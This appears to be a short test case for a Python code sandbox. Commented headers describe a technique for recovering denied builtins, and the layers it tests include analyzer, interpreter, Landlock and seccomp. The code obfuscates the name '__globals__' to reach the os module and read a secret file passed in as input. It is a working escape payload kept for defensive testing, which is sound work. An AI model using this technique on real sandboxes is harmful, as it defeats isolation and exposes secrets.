# class: denied builtins come back
# technique: getattr with a name made at run time
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
g = getattr(quit.__init__, "_".join(["", "", "glo" + chr(98) + "als", "", ""]))
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
